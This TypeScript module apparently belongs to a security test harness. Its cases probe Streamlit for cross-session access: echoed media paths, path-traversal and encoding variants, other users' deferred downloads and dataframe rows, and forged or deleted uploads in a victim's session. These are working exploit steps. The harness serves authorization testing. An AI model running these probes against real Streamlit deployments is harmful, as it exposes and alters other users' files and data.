import { type Attack, attack } from '../attack.ts'
import { type Case, minorOf } from '../case.ts'
import {
  dataframeChunk,
  deferredFile,
  deferredOperation,
  fileUrlsRequest,
  rerun,
  typed
} from '../client/back-msg.ts'
import { deferredOf, mediaOf, messageHashesOf, sourcesOf, widgetOf } from '../client/forward-msg.ts'
import type { AttackSession } from '../client/session.ts'
import type { AttackStage } from '../stage.ts'
import { lootOf } from './fragments.ts'
import { jump } from './jump.ts'

const created = 'HTTP/1.1 204'

export const lacksDeferred: Attack['lacks'] = ({ version }) =>
  minorOf(version) < 52 ? 'no deferred downloads before 1.52' : null

const lacksLazy: Attack['lacks'] = ({ version }) =>
  minorOf(version) < 61 ? 'no lazy dataframes before 1.61' : null

/** The message by which this version asks for a deferred download. */
export function askDeferred({ version }: AttackStage, fileId: string, sessionId: string): Buffer {
  return minorOf(version) < 58
    ? deferredFile(fileId, sessionId)
    : deferredOperation(fileId, sessionId)
}

/** Other ways to write a path that some server may take for the same. */
function spellings(path: string): readonly string[] {
  return [
    path,
    path.replace(/\.[a-z0-9]+$/, ''),
    path.replace('/media', '/%6dedia'),
    path.replace('/media', '//media'),
    path.replace('/media', '/MEDIA'),
    path.replace('/media/', '/media%2f'),
    path.replace('/media', '/open/../media'),
    path.replace('/media', '/open/media'),
    path.replace('/media', '/static/../media'),
    `http://localhost${path}`
  ]
}

/**
 * Finding S2: whoever guesses the address of a file has Streamlit send it back, in an answer that
 * gives nobody a file, and then asks for it.
 */
function echoed(
  where: string,
  echo: (session: AttackSession, path: string) => Promise<Buffer>
): Case {
  return attack({
    title: `S2: another person's media files, once their addresses were echoed ${where}`,
    prepare: async (door) => {
      const paths = mediaOf((await lootOf(door)).frames)
      const session = await door.enter('attacker')
      for (const path of paths) session.socket.send(await echo(session, path))
      await session.untilQuiet()
      return async () => ({
        received: await Promise.all(paths.map((path) => door.http('attacker', path))),
        session
      })
    }
  })
}

const echoes: readonly Case[] = [
  echoed('by file_urls_request', async ({ id }, path) => fileUrlsRequest(path, id)),
  echoed('by backend_operation_request', async ({ id }, path) => deferredOperation('x', id, path)),
  echoed('by a text that the page writes', async (session, path) => {
    const page = await session.ask({ name: 'open' })
    const widgets = [typed(widgetOf(page, 'open-echo'), path)]
    return rerun({ hash: session.hashOf('open'), widgets })
  })
]

export const fileAttacks: readonly Case[] = [
  ...echoes,
  attack({
    title: "another person's media files and downloads, in ten spellings",
    prepare: async (door) => {
      const { frames } = await lootOf(door)
      const paths = mediaOf(frames).flatMap(spellings)
      return async () => ({
        received: await Promise.all(paths.map((path) => door.http('attacker', path)))
      })
    }
  }),
  attack({
    title: 'own media files and downloads, after the right to their page was lost',
    prepare: async (door) => {
      const paths = mediaOf((await lootOf(door)).frames)
      return async () => ({
        received: await Promise.all(paths.map((path) => door.http('demoted', path)))
      })
    }
  }),
  attack({
    title: "another person's deferred download",
    lacks: lacksDeferred,
    prepare: async (door, stage) => {
      const { frames } = await lootOf(door)
      const [fileId = ''] = deferredOf(frames)
      const session = await door.enter('attacker')
      return async () => {
        const answer = await session.probe(askDeferred(stage, fileId, session.id))
        const files = mediaOf(answer).map((path) => door.http('attacker', path))
        return { received: [...answer, ...(await Promise.all(files))], session }
      }
    }
  }),
  attack({
    title: 'an own deferred download, after the right to its page was lost',
    lacks: lacksDeferred,
    prepare: async (door, stage) => {
      const { session, frames } = await lootOf(door)
      const [fileId = ''] = deferredOf(frames)
      await door.http('demoted', '/_stcore/health')
      return async () => {
        const answer = await session.probe(askDeferred(stage, fileId, session.id))
        const files = mediaOf(answer).map((path) => door.http('demoted', path))
        return { received: [...answer, ...(await Promise.all(files))], session }
      }
    }
  }),
  attack({
    title: "rows of another person's lazy dataframe",
    lacks: (stage) => lacksLazy(stage) ?? 'Streamlit keeps lazy dataframes for each session',
    prepare: async (door) => {
      const { frames } = await lootOf(door)
      const [sourceId = ''] = sourcesOf(frames)
      const session = await door.enter('attacker')
      return async () => ({
        received: await session.probe(dataframeChunk(sourceId, session.id, 1_100)),
        session
      })
    }
  }),
  attack({
    title: 'rows of an own lazy dataframe, after the right to its page was lost',
    lacks: lacksLazy,
    prepare: async (door) => {
      const { session, frames } = await lootOf(door)
      const [sourceId = ''] = sourcesOf(frames)
      await door.http('demoted', '/_stcore/health')
      return async () => ({
        received: await session.probe(dataframeChunk(sourceId, session.id, 1_100)),
        session
      })
    }
  }),
  attack({
    title: 'rows of the lazy dataframe of a page that the app has started by st.switch_page',
    lacks: lacksLazy,
    prepare: async (door, stage) => {
      const { frames } = await lootOf(door)
      const session = await door.enter('attacker')
      const own = sourcesOf(await jump(session, stage))
      const ids = own.length > 0 ? own : sourcesOf(frames)
      return async () => {
        const received: Buffer[] = []
        for (const id of ids) {
          received.push(...(await session.probe(dataframeChunk(id, session.id, 1_100))))
        }
        return { received }
      }
    }
  }),
  attack({
    title: "a file put into another person's session",
    sign: created,
    prepare: async (door) => {
      const { session } = await lootOf(door)
      const urls = await session.uploadUrls()
      return async () => ({ received: [await door.upload('attacker', urls, 'forged')] })
    }
  }),
  attack({
    title: "a file deleted from another person's session",
    sign: created,
    prepare: async (door) => {
      const { session } = await lootOf(door)
      const urls = await session.uploadUrls()
      await door.upload('victim', urls, 'kept')
      const headers = await door.xsrf('attacker')
      const request = { method: 'DELETE', headers }
      return async () => ({
        received: [await door.http('attacker', urls.deleteUrl, request)]
      })
    }
  }),
  attack({
    title: 'a cached message of another person, by its hash',
    lacks: ({ version }) => (minorOf(version) < 45 ? null : 'no cache of messages since 1.45'),
    prepare: async (door) => {
      const { frames } = await lootOf(door)
      const paths = messageHashesOf(frames).map((hash) => `/_stcore/message?hash=${hash}`)
      return async () => ({
        received: await Promise.all(paths.map((path) => door.http('attacker', path)))
      })
    }
  })
]
